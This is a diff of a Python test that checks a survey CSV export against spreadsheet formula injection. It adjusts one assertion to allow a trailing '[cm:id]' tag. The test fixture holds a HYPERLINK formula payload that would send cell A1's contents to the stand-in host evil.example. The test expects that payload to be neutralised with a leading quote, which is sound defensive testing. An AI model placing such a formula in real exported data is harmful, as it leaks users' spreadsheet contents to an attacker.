@@ -54,7 +54,8 @@ def test_survey_csv_cells_are_never_formulas_and_read_back(cli, hostile, tmp_pat
     rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
     cells = [c for row in rows for c in row if c]
     assert cells and all(_safe_cell(c) for c in cells), cells
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in rows[1]
+    # (each question carries its moment's tag after it: `[cm:id]`)
+    assert any(c.startswith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") [cm:") for c in rows[1]), rows[1]
     assert "'-a" in rows[0]  # an id that starts like a formula is quoted too ...
     # ... and --ratings reads the quoted column back as that moment's answers.
     rows.append(["r1", "", ""] + ["4"] * (len(rows[0]) - 4) + [""])
